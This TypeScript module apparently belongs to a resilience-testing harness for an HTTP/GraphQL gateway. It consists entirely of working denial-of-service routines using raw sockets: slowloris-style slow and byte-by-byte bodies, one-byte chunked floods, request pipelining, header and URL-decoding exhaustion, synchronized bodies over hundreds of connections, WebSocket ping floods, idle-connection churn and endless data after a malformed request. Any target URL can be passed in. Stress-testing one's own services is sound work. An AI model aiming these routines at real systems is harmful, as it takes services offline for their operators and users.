import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { RunAttack } from './attack.js';

const NOTHING = { responses: {} };

const open = (url: string): Promise<Socket | null> => {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => resolve(socket));
    socket.setNoDelay(true);
    socket.resume();
    socket.on('error', () => resolve(null));
  });
};

/** Runs loops of unauthenticated connections. */
const onConnections =
  (run: (socket: Socket, signal: AbortSignal) => Promise<void>): RunAttack =>
  async ({ url, loops = 20 }, signal) => {
    const repeat = async () => {
      while (!signal.aborted) {
        const socket = await open(url);
        if (socket) await run(socket, signal);
        else await delay(100);
        socket?.destroy();
      }
    };
    await Promise.all(Array.from({ length: loops }, repeat));
    return NOTHING;
  };

const HEAD = 'POST /graphql HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n';
const CHUNKS = '1\r\n \r\n'.repeat(1_000);

/** Bodies in chunks of one byte. */
const oneByteChunks = onConnections(async (socket, signal) => {
  socket.write(`${HEAD}Transfer-Encoding: chunked\r\n\r\n`);
  for (let sent = 0; sent < 50 && !signal.aborted && socket.writable; sent += 1) {
    socket.write(CHUNKS);
    await delay(1);
  }
});

const PIPELINE = 'GET /metrics HTTP/1.1\r\nHost: gateway\r\n\r\n'.repeat(20);

/** Pipelines requests and disconnects. */
const pipelines = onConnections(async (socket) => {
  socket.write(PIPELINE);
  await delay(5);
});

const FIELDS = Array.from({ length: 97 }, (_, index) => `a${index}:\r\n`).join('');
const MANY_HEADERS = `GET / HTTP/1.1\r\nHost: gateway\r\n${FIELDS}\r\n`.repeat(10);

/** Pipelined requests with the maximum number of headers. */
const manyHeaders = onConnections(async (socket, signal) => {
  for (let sent = 0; sent < 20 && !signal.aborted && socket.writable; sent += 1) {
    socket.write(MANY_HEADERS);
    await delay(10);
  }
});

const BODY = JSON.stringify({ query: '{ viewer { kind } }', variables: { a: 'x'.repeat(9_000) } });

/** Completes bodies on all connections at the same time. */
const simultaneousBodies: RunAttack = async ({ url, loops = 20 }, signal) => {
  while (!signal.aborted) {
    const sockets = await Promise.all(Array.from({ length: loops }, () => open(url)));
    for (const socket of sockets) {
      socket?.write(`${HEAD}Content-Length: ${BODY.length}\r\n\r\n${BODY.slice(0, -1)}`);
    }
    await delay(50);
    for (const socket of sockets) socket?.write('}');
    await delay(100);
    for (const socket of sockets) socket?.destroy();
  }
  return NOTHING;
};

/** Opens connections, 20 at a time with a pause, and sends the same on each. */
const openMany = async (
  url: string,
  signal: AbortSignal,
  { count, pauseMs, text = '' }: { count: number; pauseMs: number; text?: string },
): Promise<(Socket | null)[]> => {
  const sockets: (Socket | null)[] = [];
  while (sockets.length < count && !signal.aborted) {
    const opened = await Promise.all(Array.from({ length: 20 }, () => open(url)));
    for (const socket of opened) socket?.write(text);
    sockets.push(...opened);
    await delay(pauseMs);
  }
  return sockets;
};

const ZEROS = JSON.stringify({ a: Array(1_990).fill(0) });
const ZEROS_HEAD = `POST /api/admin/x HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: ${ZEROS.length}\r\n\r\n`;

/** Completes small bodies on hundreds of connections at the same time. */
const smallBodies: RunAttack = async ({ url, loops = 900 }, signal) => {
  while (!signal.aborted) {
    const text = ZEROS_HEAD + ZEROS.slice(0, -1);
    const sockets = await openMany(url, signal, { count: loops, pauseMs: 40, text });
    await delay(2_500);
    for (const socket of sockets) socket?.write('}');
    await delay(3_000);
    for (const socket of sockets) socket?.destroy();
  }
  return NOTHING;
};

const HANDSHAKE =
  'GET /graphql HTTP/1.1\r\nHost: gateway\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
  'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n' +
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
/** Empty, with a mask. */
const PINGS = Buffer.alloc(72_000, Buffer.from([0x89, 0x80, 1, 2, 3, 4]));

/** Opens WebSockets, and sends thousands of pings on all of them at once instead of connection_init. */
const pingFloods: RunAttack = async ({ url, loops = 300 }, signal) => {
  while (!signal.aborted) {
    const sockets = await openMany(url, signal, { count: loops, pauseMs: 150, text: HANDSHAKE });
    await delay(1_000);
    for (const socket of sockets) socket?.write(PINGS);
    await delay(2_500);
    for (const socket of sockets) socket?.destroy();
  }
  return NOTHING;
};

/** Opens thousands of connections, sends nothing, and closes all of them at once. */
const idleConnections: RunAttack = async ({ url, loops = 1_800 }, signal) => {
  while (!signal.aborted) {
    const sockets = await openMany(url, signal, { count: loops, pauseMs: 20 });
    for (const socket of sockets) socket?.destroy();
    await delay(500);
  }
  return NOTHING;
};

/** Announces bodies and sends them slowly, so that their memory stays reserved. */
const slowBodies: RunAttack = async ({ url, loops = 200 }, signal) => {
  const head =
    'POST /api/admin/x HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: 102400\r\n\r\n{';
  let sockets: (Socket | null)[] = [];
  while (!signal.aborted) {
    const alive = sockets.filter((socket) => socket?.writable);
    const opened = Array.from({ length: Math.min(20, loops - alive.length) }, () => open(url));
    const fresh = await Promise.all(opened);
    for (const socket of fresh) socket?.write(head);
    for (const socket of alive) socket?.write(' ');
    sockets = [...alive, ...fresh];
    await delay(100);
  }
  for (const socket of sockets) socket?.destroy();
  return NOTHING;
};

/** Sends bodies byte by byte on many connections. */
const byteByByte: RunAttack = async ({ url, loops = 1_000 }, signal) => {
  let sockets: (Socket | null)[] = [];
  while (!signal.aborted) {
    const alive = sockets.filter((socket) => socket?.writable);
    const opened = Array.from({ length: Math.min(20, loops - alive.length) }, () => open(url));
    const fresh = await Promise.all(opened);
    for (const socket of fresh) socket?.write(`${HEAD}Content-Length: 4000\r\n\r\n`);
    for (const socket of alive) socket?.write(' ');
    sockets = [...alive, ...fresh];
    await delay(50);
  }
  for (const socket of sockets) socket?.destroy();
  return NOTHING;
};

/** Requests whose headers or URL take long to decode. */
const paced = (requestText: string): RunAttack =>
  onConnections(async (socket) => {
    socket.write(requestText);
    await delay(1_000);
  });

const NAME = 'ü'.repeat(7_800);
const hostNames = paced(
  `GET /graphql HTTP/1.1\r\nHost: gateway\r\nOrigin: https://${NAME}\r\nConnection: close\r\n\r\n`,
);
const urlParameters = paced(
  `GET /graphql?${'&%ff'.repeat(3_900)} HTTP/1.1\r\nHost: gateway\r\nAccept: text/html\r\nConnection: close\r\n\r\n`,
);

const LARGE_PAGE = '/docs/openapi/scalar.js';

/** Requests large pages, and starts to read all of them at the same time. */
const unreadPages: RunAttack = async ({ url, loops = 80 }, signal) => {
  const { status } = await fetch(`${url}${LARGE_PAGE}`, { method: 'HEAD' });
  if (status !== 200) throw new Error(`The page ${LARGE_PAGE} returns ${status}.`);
  while (!signal.aborted) {
    const sockets = await Promise.all(Array.from({ length: loops }, () => open(url)));
    for (const socket of sockets) {
      socket?.pause().write(`GET ${LARGE_PAGE} HTTP/1.1\r\nHost: gateway\r\n\r\n`);
    }
    await delay(1_500);
    for (const socket of sockets) socket?.resume();
    await delay(1_500);
    for (const socket of sockets) socket?.destroy();
  }
  return NOTHING;
};

const BLOCK = Buffer.alloc(1_048_576, 'x');

/** Data without end after a malformed request. */
const endlessErrors = onConnections(async (socket, signal) => {
  socket.write('BAD\r\n\r\n');
  await delay(5);
  while (!signal.aborted && socket.writable) {
    const isTaken = socket.write(BLOCK);
    if (!isTaken)
      await new Promise((resolve) => socket.once('drain', resolve).once('close', resolve));
  }
});

export const RAW_CONNECTIONS = {
  endlessErrors,
  oneByteChunks,
  pipelines,
  manyHeaders,
  simultaneousBodies,
  smallBodies,
  pingFloods,
  idleConnections,
  slowBodies,
  unreadPages,
  byteByByte,
  hostNames,
  urlParameters,
} satisfies Record<string, RunAttack>;
